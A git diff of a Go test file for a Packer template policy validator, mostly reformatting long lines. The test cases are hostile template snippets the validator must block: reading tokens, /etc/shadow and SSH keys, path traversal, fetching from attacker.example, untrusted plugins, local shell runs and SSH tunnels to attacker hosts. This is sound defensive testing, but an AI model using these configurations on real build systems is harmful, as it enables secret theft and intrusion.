@@ -29,47 +29,72 @@ build {
 func TestPolicy(t *testing.T) {
 	t.Parallel()
 	tests := map[string]struct{ text, rule string }{
-		"environment":        {head + "variable \"t\" {\n  default = env(\"GITHUB_TOKEN\")\n}\n", validate.RulePolicyCall},
-		"Vault":              {head + "locals {\n  a = vault(\"secret/data/x\", \"key\")\n}\n", validate.RulePolicyCall},
-		"Consul":             {head + "locals {\n  a = [for k in [\"a\"] : consul_key(k)]\n}\n", validate.RulePolicyCall},
-		"AWS":                {head + "locals {\n  a = aws_secretsmanager(\"x\", \"y\")\n}\n", validate.RulePolicyCall},
-		"file":               {head + "locals {\n  a = file(\"/etc/passwd\")\n}\n", validate.RulePolicyPath},
-		"file below":         {head + "locals {\n  a = file(\"${path.root}/a/../../../etc/passwd\")\n}\n", validate.RulePolicyPath},
+		"environment": {head + "variable \"t\" {\n  default = env(\"GITHUB_TOKEN\")\n}\n", validate.RulePolicyCall},
+		"Vault":       {head + "locals {\n  a = vault(\"secret/data/x\", \"key\")\n}\n", validate.RulePolicyCall},
+		"Consul":      {head + "locals {\n  a = [for k in [\"a\"] : consul_key(k)]\n}\n", validate.RulePolicyCall},
+		"AWS":         {head + "locals {\n  a = aws_secretsmanager(\"x\", \"y\")\n}\n", validate.RulePolicyCall},
+		"file":        {head + "locals {\n  a = file(\"/etc/passwd\")\n}\n", validate.RulePolicyPath},
+		"file below": {
+			head + "locals {\n  a = file(\"${path.root}/a/../../../etc/passwd\")\n}\n",
+			validate.RulePolicyPath,
+		},
 		"file in a loop":     {head + "locals {\n  a = [for f in [\"/etc/passwd\"] : file(f)]\n}\n", validate.RulePolicyPath},
 		"file by a variable": {build(`  provisioner "shell" { inline = [file(var.given)] }`), validate.RulePolicyPath},
-		"templatefile":       {head + "locals {\n  a = templatefile(\"../../../../etc/hostname\", {})\n}\n", validate.RulePolicyPath},
-		"fileset":            {head + "locals {\n  a = fileset(\"/\", \"**\")\n}\n", validate.RulePolicyPath},
-		"home":               {head + "locals {\n  a = pathexpand(\"~/.ssh\")\n}\n", validate.RulePolicyCall},
-		"data source":        {head + "data \"http\" \"x\" {\n  url = \"https://attacker.example\"\n}\n", validate.RulePolicyData},
-		"plugin":             {head + "packer {\n  required_plugins {\n    evil = {\n      source  = \"github.com/attacker/evil\"\n      version = \">= 1.0.0\"\n    }\n  }\n}\n", validate.RulePolicyPlugin},
-		"shell-local":        {build(`  provisioner "shell-local" { inline = ["id"] }`), validate.RulePolicyRun},
-		"shell-local after":  {build(`  post-processor "shell-local" { inline = ["id"] }`), validate.RulePolicyRun},
-		"dynamic":            {build("  dynamic \"provisioner\" {\n    for_each = [1]\n    labels   = [\"shell-local\"]\n    content { inline = [\"id\"] }\n  }"), validate.RulePolicyRun},
-		"artifice":           {build(`  post-processor "artifice" { files = ["/etc/shadow"] }`), validate.RulePolicyPart},
-		"upload":             {build("  provisioner \"file\" {\n    source      = \"/etc/shadow\"\n    destination = \"/tmp/x\"\n  }"), validate.RulePolicyPath},
-		"download":           {build("  provisioner \"file\" {\n    direction   = \"download\"\n    source      = \"/tmp/x\"\n    destination = \"/etc/cron.d/x\"\n  }"), validate.RulePolicyPath},
-		"ansible command":    {build("  provisioner \"ansible\" {\n    playbook_file = \"./a.pkr.hcl\"\n    command       = \"./evil\"\n  }"), validate.RulePolicyRun},
-		"HTTP folder":        {iso(`http_directory = "/"`), validate.RulePolicyPath},
-		"CD files":           {iso(`cd_files = ["/etc/*"]`), validate.RulePolicyPath},
-		"key file":           {iso(`ssh_private_key_file = "~/.ssh/id_rsa"`), validate.RulePolicyPath},
-		"agent":              {iso(`ssh_agent_auth = true`), validate.RulePolicyRun},
-		"medium":             {iso(`iso_url = "file:///etc/shadow"`), validate.RulePolicyURL},
-		"medium elsewhere":   {iso(`iso_url = "https://attacker.example/x.iso"`), validate.RulePolicyURL},
-		"medium with name":   {iso(`iso_url = "https://mirror.example@attacker.example/x.iso"`), validate.RulePolicyURL},
-		"bastion":            {iso(`ssh_bastion_host = "attacker.example"`), validate.RulePolicyReach},
-		"bastion's agent":    {iso(`ssh_bastion_agent_auth = true`), validate.RulePolicyReach},
-		"proxy":              {iso(`ssh_proxy_host = "attacker.example"`), validate.RulePolicyReach},
-		"tunnel":             {iso(`ssh_remote_tunnels = ["8080:localhost:22"]`), validate.RulePolicyReach},
-		"tunnel from here":   {iso(`ssh_local_tunnels = ["8080:localhost:22"]`), validate.RulePolicyReach},
-		"another host":       {iso(`ssh_host = "attacker.example"`), validate.RulePolicyReach},
-		"another Windows":    {iso(`winrm_host = "attacker.example"`), validate.RulePolicyReach},
-		"proxy by a file":    {iso("ssh_proxy_host = var.proxy") + "variable \"proxy\" {\n  type    = string\n  default = \"attacker.example\"\n}\n", validate.RulePolicyReach},
+		"templatefile": {
+			head + "locals {\n  a = templatefile(\"../../../../etc/hostname\", {})\n}\n",
+			validate.RulePolicyPath,
+		},
+		"fileset": {head + "locals {\n  a = fileset(\"/\", \"**\")\n}\n", validate.RulePolicyPath},
+		"home":    {head + "locals {\n  a = pathexpand(\"~/.ssh\")\n}\n", validate.RulePolicyCall},
+		"data source": {
+			head + "data \"http\" \"x\" {\n  url = \"https://attacker.example\"\n}\n",
+			validate.RulePolicyData,
+		},
+		"plugin": {head + "packer {\n  required_plugins {\n    evil = {\n      source  = " +
+			"\"github.com/attacker/evil\"\n      version = \">= 1.0.0\"\n    }\n  }\n}\n", validate.RulePolicyPlugin},
+		"shell-local":       {build(`  provisioner "shell-local" { inline = ["id"] }`), validate.RulePolicyRun},
+		"shell-local after": {build(`  post-processor "shell-local" { inline = ["id"] }`), validate.RulePolicyRun},
+		"dynamic": {build(
+			"  dynamic \"provisioner\" {\n    for_each = [1]\n    labels   = [\"shell-local\"]\n    content { inline = " +
+				"[\"id\"] }\n  }"), validate.RulePolicyRun},
+		"artifice": {build(`  post-processor "artifice" { files = ["/etc/shadow"] }`), validate.RulePolicyPart},
+		"upload": {
+			build(
+				"  provisioner \"file\" {\n    source      = \"/etc/shadow\"\n    destination = \"/tmp/x\"\n  }"),
+			validate.RulePolicyPath,
+		},
+		"download": {build(
+			"  provisioner \"file\" {\n    direction   = \"download\"\n    source      = \"/tmp/x\"\n    destination = " +
+				"\"/etc/cron.d/x\"\n  }"), validate.RulePolicyPath},
+		"ansible command": {
+			build(
+				"  provisioner \"ansible\" {\n    playbook_file = \"./a.pkr.hcl\"\n    command       = \"./evil\"\n  }"),
+			validate.RulePolicyRun,
+		},
+		"HTTP folder":      {iso(`http_directory = "/"`), validate.RulePolicyPath},
+		"CD files":         {iso(`cd_files = ["/etc/*"]`), validate.RulePolicyPath},
+		"key file":         {iso(`ssh_private_key_file = "~/.ssh/id_rsa"`), validate.RulePolicyPath},
+		"agent":            {iso(`ssh_agent_auth = true`), validate.RulePolicyRun},
+		"medium":           {iso(`iso_url = "file:///etc/shadow"`), validate.RulePolicyURL},
+		"medium elsewhere": {iso(`iso_url = "https://attacker.example/x.iso"`), validate.RulePolicyURL},
+		"medium with name": {iso(`iso_url = "https://mirror.example@attacker.example/x.iso"`), validate.RulePolicyURL},
+		"bastion":          {iso(`ssh_bastion_host = "attacker.example"`), validate.RulePolicyReach},
+		"bastion's agent":  {iso(`ssh_bastion_agent_auth = true`), validate.RulePolicyReach},
+		"proxy":            {iso(`ssh_proxy_host = "attacker.example"`), validate.RulePolicyReach},
+		"tunnel":           {iso(`ssh_remote_tunnels = ["8080:localhost:22"]`), validate.RulePolicyReach},
+		"tunnel from here": {iso(`ssh_local_tunnels = ["8080:localhost:22"]`), validate.RulePolicyReach},
+		"another host":     {iso(`ssh_host = "attacker.example"`), validate.RulePolicyReach},
+		"another Windows":  {iso(`winrm_host = "attacker.example"`), validate.RulePolicyReach},
+		"proxy by a file": {iso("ssh_proxy_host = var.proxy") +
+			"variable \"proxy\" {\n  type    = string\n  default = \"attacker.example\"\n}\n", validate.RulePolicyReach},
 		"registry":           {build("  hcp_packer_registry {\n    bucket_name = \"x\"\n  }"), validate.RulePolicyPart},
 		"registry above":     {head + "hcp_packer_registry {\n  bucket_name = \"x\"\n}\n", validate.RulePolicyPart},
 		"communicator above": {head + "communicator \"ssh\" \"x\" {}\n", validate.RulePolicyPart},
-		"bastion in a build": {strings.Replace(iso(""), "sources = [\"source.vsphere-iso.x\"]", "source \"source.vsphere-iso.x\" {\n    ssh_bastion_host = \"attacker.example\"\n  }", 1), validate.RulePolicyReach},
-		"override":           {build("  provisioner \"ansible\" {\n    playbook_file = \"./a.pkr.hcl\"\n    override = {\n      x = { command = \"./evil\" }\n    }\n  }"), validate.RulePolicyRun},
-		"checksum":           {iso(`iso_checksum = "file:http://attacker.example/x"`), validate.RulePolicyURL},
+		"bastion in a build": {strings.Replace(iso(""), "sources = [\"source.vsphere-iso.x\"]",
+			"source \"source.vsphere-iso.x\" {\n    ssh_bastion_host = \"attacker.example\"\n  }", 1), validate.RulePolicyReach},
+		"override": {build("  provisioner \"ansible\" {\n    playbook_file = \"./a.pkr.hcl\"\n    override = {\n      x = " +
+			"{ command = \"./evil\" }\n    }\n  }"), validate.RulePolicyRun},
+		"checksum": {iso(`iso_checksum = "file:http://attacker.example/x"`), validate.RulePolicyURL},
 	}
 	for name, test := range tests {
 		t.Run(name, func(t *testing.T) {
@@ -119,16 +144,18 @@ func TestPolicyBoundsWork(t *testing.T) { // not beside others: it measures time
 		"nested":           `[for a in setproduct(range(100), range(100)) : [for b in setproduct(range(100), range(100)) : 1]]`,
 	} {
 		for where, tree := range map[string]string{
-			"local":     head + "locals {\n  a = " + text + "\n}\n",
-			"default":   head + "variable \"a\" {\n  default = " + text + "\n}\n",
-			"condition": head + "variable \"a\" {\n  type    = string\n  default = \"\"\n  validation {\n    condition     = length(" + text + ") > 0\n    error_message = \"No.\"\n  }\n}\n",
-			"source":    iso("vm_name = jsonencode(" + text + ")"),
+			"local":   head + "locals {\n  a = " + text + "\n}\n",
+			"default": head + "variable \"a\" {\n  default = " + text + "\n}\n",
+			"condition": head + "variable \"a\" {\n  type    = string\n  default = \"\"\n  validation {\n    condition     = " +
+				"length(" + text + ") > 0\n    error_message = \"No.\"\n  }\n}\n",
+			"source": iso("vm_name = jsonencode(" + text + ")"),
 		} {
 			in := input(map[string]string{"a.pkr.hcl": tree})
 			in.Policy = &validate.Policy{}
 			var findings []hybridcore.Finding
 			took, held := cost(t, func() { findings = validate.Check(in) })
-			if !slices.ContainsFunc(findings, func(f hybridcore.Finding) bool { return f.Rule == validate.RuleWork && f.Blocking }) {
+			if !slices.ContainsFunc(findings,
+				func(f hybridcore.Finding) bool { return f.Rule == validate.RuleWork && f.Blocking }) {
 				t.Errorf("%s in a %s: %.1000v", name, where, findings)
 			}
 			if took > 2*maxTime*slow || held > maxBytes {
@@ -137,10 +164,12 @@ func TestPolicyBoundsWork(t *testing.T) { // not beside others: it measures time
 		}
 	}
 	powers := func(of string) string { return of + strings.Repeat(" * "+of, 900) }
-	in := input(map[string]string{"a.pkr.hcl": head + "locals {\n  a = " + powers("pow(10, 300)") + "\n  b = " + powers("local.a") + "\n  c = \"${local.b}\"\n}\n"})
+	in := input(map[string]string{"a.pkr.hcl": head + "locals {\n  a = " + powers("pow(10, 300)") + "\n  b = " +
+		powers("local.a") + "\n  c = \"${local.b}\"\n}\n"})
 	in.Policy = &validate.Policy{}
 	took, held := cost(t, func() {
-		if findings := validate.Check(in); !slices.ContainsFunc(findings, func(f hybridcore.Finding) bool { return f.Rule == validate.RuleWork && f.Blocking }) {
+		if findings := validate.Check(in); !slices.ContainsFunc(findings,
+			func(f hybridcore.Finding) bool { return f.Rule == validate.RuleWork && f.Blocking }) {
 			t.Errorf("powers of powers: %.1000v", findings)
 		}
 	})
@@ -148,7 +177,8 @@ func TestPolicyBoundsWork(t *testing.T) { // not beside others: it measures time
 		t.Errorf("powers of powers: took %v and held %d MiB", took, held>>20)
 	}
 	for _, text := range []string{
-		`format("%-20s %03d", "x", 1)`, `indent(2, "a\nb")`, `bcrypt("x", 4)`, `yamldecode("a: 1")`, `[for i in range(10) : i]`,
+		`format("%-20s %03d", "x", 1)`, `indent(2, "a\nb")`, `bcrypt("x", 4)`, `yamldecode("a: 1")`,
+		`[for i in range(10) : i]`,
 		`setproduct(range(10), range(10))`, `pow(2, 16)`, `join(", ", [for i in range(50) : format("%d", i)])`,
 	} {
 		in := input(map[string]string{"a.pkr.hcl": head + "locals {\n  a = " + text + "\n}\n"})
@@ -163,7 +193,8 @@ func TestPolicyBoundsWork(t *testing.T) { // not beside others: it measures time
 
 // iso is a source with one more setting.
 func iso(setting string) string {
-	return "packer {\n  required_version = \">= 1.10.0\"\n  required_plugins {\n    vsphere = {\n      source  = \"github.com/hashicorp/vsphere\"\n      version = \">= 1.4.0\"\n    }\n  }\n}\n" +
+	return "packer {\n  required_version = \">= 1.10.0\"\n  required_plugins {\n    vsphere = {\n      source  = " +
+		"\"github.com/hashicorp/vsphere\"\n      version = \">= 1.4.0\"\n    }\n  }\n}\n" +
 		"source \"vsphere-iso\" \"x\" {\n  " + setting + "\n}\nbuild {\n  sources = [\"source.vsphere-iso.x\"]\n}\n"
 }
 
@@ -171,13 +202,26 @@ func iso(setting string) string {
 func TestEmbeddedSchemas(t *testing.T) {
 	t.Parallel()
 	for kind, names := range map[validate.Kind][]string{
-		validate.Builder:       {"azure-arm", "azure-chroot", "azure-dtl", "file", "null", "proxmox-clone", "proxmox-iso", "vsphere-clone", "vsphere-iso", "vsphere-supervisor"},
-		validate.Provisioner:   {"ansible", "ansible-local", "azure-dtlartifact", "breakpoint", "file", "hcp-sbom", "powershell", "shell", "shell-local", "sleep", "windows-restart", "windows-shell"},
-		validate.PostProcessor: {"artifice", "checksum", "compress", "manifest", "shell-local", "vsphere", "vsphere-template"},
-		validate.DataSource:    {"azure-keyvaultsecret", "hcp-packer-artifact", "hcp-packer-image", "hcp-packer-iteration", "hcp-packer-version", "http", "null"},
+		validate.Builder: {
+			"azure-arm", "azure-chroot", "azure-dtl", "file", "null", "proxmox-clone", "proxmox-iso",
+			"vsphere-clone", "vsphere-iso", "vsphere-supervisor",
+		},
+		validate.Provisioner: {
+			"ansible", "ansible-local", "azure-dtlartifact", "breakpoint", "file", "hcp-sbom",
+			"powershell", "shell", "shell-local", "sleep", "windows-restart", "windows-shell",
+		},
+		validate.PostProcessor: {
+			"artifice", "checksum", "compress", "manifest", "shell-local", "vsphere",
+			"vsphere-template",
+		},
+		validate.DataSource: {
+			"azure-keyvaultsecret", "hcp-packer-artifact", "hcp-packer-image", "hcp-packer-iteration",
+			"hcp-packer-version", "http", "null",
+		},
 	} {
 		for _, name := range names {
-			if schema, ok := validate.Embedded(kind, name); !ok || len(schema.Attributes) == 0 || schema.Plugin == "" || schema.Version == "" {
+			if schema, ok := validate.Embedded(kind, name); !ok || len(schema.Attributes) == 0 || schema.Plugin == "" ||
+				schema.Version == "" {
 				t.Errorf("%s %s: %+v", kind, name, schema)
 			}
 		}
@@ -192,7 +236,8 @@ func FuzzCheck(f *testing.F) {
 		}
 	}
 	f.Add(iso(`iso_url = "x"`), "- a: &b [*b]")
-	f.Add(build("  dynamic \"provisioner\" {\n    for_each = var.given\n    labels   = [\"shell\"]\n    content { inline = [provisioner.value] }\n  }"), "x: [")
+	f.Add(build("  dynamic \"provisioner\" {\n    for_each = var.given\n    labels   = [\"shell\"]\n    content { "+
+		"inline = [provisioner.value] }\n  }"), "x: [")
 	f.Fuzz(func(t *testing.T, text, playbook string) {
 		in := input(map[string]string{"a.pkr.hcl": text, "p.yml": playbook, "t.tpl": text})
 		in.Policy = &validate.Policy{}
